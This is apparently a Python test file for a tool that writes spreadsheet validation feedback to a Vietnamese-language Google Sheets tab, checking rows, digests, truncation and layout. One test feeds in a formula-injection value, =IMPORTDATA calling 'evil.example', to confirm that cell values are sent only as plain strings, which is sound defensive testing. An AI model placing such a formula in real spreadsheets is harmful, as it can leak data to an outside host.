"""What stands on the tab ``Phản hồi``: its rows, and when one page is as good as another."""

from datetime import UTC, datetime

import pytest

from services.feedback.page import WIDTHS, Page, page_of, words_digest
from services.feedback.requests import creation
from services.feedback.tab import Hindrance
from services.feedback.told import Told
from services.intake.findings import Code, Finding, Severity
from services.snapshot import TabState
from services.text.feedback import HINDRANCES
from services.text.language import Language

TAB = TabState("Huyện Lý Nhân", "Việc làm", "employment_log", 1234, 1200)
STRANGE = TabState("Huyện Lý Nhân", "Nháp", "", 0, 0)
BAD = Finding(
    "Huyện Lý Nhân",
    "Việc làm",
    "D2",
    "employment_log",
    "referred",
    Severity.ERROR,
    Code.NUMBER_UNREADABLE,
    "bốn mươi",
    link="https://docs.google.com/spreadsheets/d/x/edit#gid=0&range=D2",
)


def told(*findings: Finding, read_at: datetime | None = None) -> Told:
    return Told("x", "Huyện Lý Nhân", (TAB, STRANGE), findings, read_at)


def texts(page: Page) -> list[list[str]]:
    return [[entry.text for entry in row] for row in page.rows]


def test_a_page_in_vietnamese():
    at = datetime(2021, 11, 25, 2, 12, tzinfo=UTC)
    rows = texts(page_of(told(BAD, read_at=at), Language.VI))
    assert rows[2][0].startswith("Như dưới đây từ lần đọc lúc 09:12 25/11/2021.")
    assert rows[7] == ["Việc làm", "1.234", "1.200", "34", "Việc làm"]
    assert rows[8] == ["Nháp", "0", "0", "0", "không phải bảng báo cáo"]
    assert rows[11] == [
        "Trang",
        "Ô (bấm để mở)",
        "Mức",
        "Cột",
        "Giá trị đang ghi",
        "Sai ở đâu và sửa thế nào",
    ]
    assert rows[12][:5] == [
        "Việc làm",
        "D2",
        "Lỗi",
        "Số thanh niên được giới thiệu việc làm",
        "bốn mươi",
    ]


def test_a_page_in_english():
    rows = texts(page_of(told(BAD), Language.EN))
    assert rows[2] == ["This spreadsheet has not been read yet."]
    assert rows[7][4] == "Employment"
    assert rows[12][2] == "Error"


def test_the_time_alone_makes_no_other_page():
    early = page_of(told(BAD, read_at=datetime(2021, 11, 25, tzinfo=UTC)), Language.VI)
    late = page_of(told(BAD, read_at=datetime(2022, 1, 1, tzinfo=UTC)), Language.VI)
    assert texts(early) != texts(late)
    assert (early.digest, early.words) == (late.digest, late.words)


@pytest.mark.parametrize(
    "other",
    [
        Finding(*[*vars(BAD).values()][:8], link="https://elsewhere.example"),
        Finding(*["Huyện Lý Nhân", "Việc làm", "D3", *list(vars(BAD).values())[3:]]),
    ],
)
def test_another_link_or_cell_makes_another_page(other: Finding):
    assert page_of(told(BAD), Language.VI).digest != page_of(told(other), Language.VI).digest


def test_words_read_back_are_known_for_the_same():
    page = page_of(told(BAD), Language.VI)
    # What Google gives back: no empty cells at the end, an empty row as nothing.
    back: list[list[object]] = [[entry.text for entry in row if entry.text] for row in page.rows]
    assert words_digest(back) == page.words
    assert words_digest([*back, [], [""]]) == page.words
    back[2] = ["lúc khác"]
    assert words_digest(back) == page.words


@pytest.mark.parametrize(("row", "column"), [(0, 1), (2, 1), (12, 5), (40, 0)])
def test_a_word_that_somebody_added_is_seen(row: int, column: int):
    page = page_of(told(BAD), Language.VI)
    back: list[list[object]] = [[entry.text for entry in row] for row in page.rows]
    back += [[] for _ in range(row + 1 - len(back))]
    back[row] = (back[row] + [""] * 9)[:9]
    back[row][column] = "đã sửa"
    assert words_digest(back) != page.words


def test_values_of_many_lines_and_of_great_length_stay_in_one_short_line():
    long = Finding(*[*list(vars(BAD).values())[:7], "một\n\n  hai\t" + "x" * 60_000])
    value = texts(page_of(told(long), Language.VI))[12][4]
    assert value.startswith("một hai xxx")
    assert len(value) == 1000
    assert value.endswith("…")


def test_very_many_findings_are_cut_and_counted():
    rows = texts(page_of(told(*[BAD] * 1700), Language.VI))
    assert len(rows) == 12 + 500 + 1
    assert rows[-1][0].startswith("… và 1.200 phát hiện khác")


def test_a_page_without_findings_ends_with_the_tabs():
    rows = texts(page_of(told(), Language.VI))
    assert rows[3] == ["Không có điểm nào cần sửa."]
    assert rows[-1][0] == "Nháp"


def test_no_row_is_wider_than_the_tab():
    assert max(map(len, page_of(told(BAD), Language.VI).rows)) == len(WIDTHS)


def test_nothing_is_ever_sent_as_a_formula():
    sly = Finding(*[*list(vars(BAD).values())[:7], '=IMPORTDATA("http://evil.example")'])
    requests = creation(page_of(told(sly), Language.VI), "m", "a@b", "p")
    (cells,) = [one["updateCells"] for one in requests if "updateCells" in one]
    kinds = {
        kind
        for row in cells["rows"]
        for cell in row["values"]
        for kind in cell.get("userEnteredValue", {})
    }
    assert kinds == {"stringValue"}


def test_every_hindrance_has_its_sentence():
    assert HINDRANCES.keys() == {one.value for one in Hindrance}
    for sentence in HINDRANCES.values():
        assert all("“Lý Nhân”" in words.format(spreadsheet="Lý Nhân") for words in sentence)
